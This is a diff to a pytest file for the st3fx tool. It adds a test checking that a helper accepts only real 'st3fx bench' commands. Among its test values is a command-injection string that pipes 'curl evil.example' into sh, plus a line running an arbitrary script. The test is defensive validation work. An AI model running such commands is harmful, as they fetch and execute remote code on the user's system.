@@ -7,7 +7,7 @@ from pathlib import Path
 import pytest
 
 from st3fx.commands.convert import load_bundle
-from st3fx.commands.report import default_output, gather, write_report
+from st3fx.commands.report import _is_bench, default_output, gather, write_report
 from st3fx.errors import BenchError, BundleError, ReportError, TrainError
 from st3fx.files.bundle import read_bundle
 from st3fx.report.facts import Facts
@@ -153,3 +153,16 @@ def test_damaged_runs_and_bundles(own: Path, tmp_path: Path) -> None:
     with pytest.raises(TrainError, match="unknown setting"):
         write_report(own)
     assert not (own / "report.html").exists()
+
+
+@pytest.mark.parametrize(
+    ("command", "shown"),
+    [
+        ("st3fx bench a.onnx -b 1", True),
+        ("st3fx bench a.onnx; curl evil.example | sh", False),
+        ("st3fx bench 'a", False),
+        ("sh evil.sh", False),
+    ],
+)
+def test_a_file_gives_no_other_command_to_run(command: str, shown: bool) -> None:
+    assert _is_bench(command) is shown
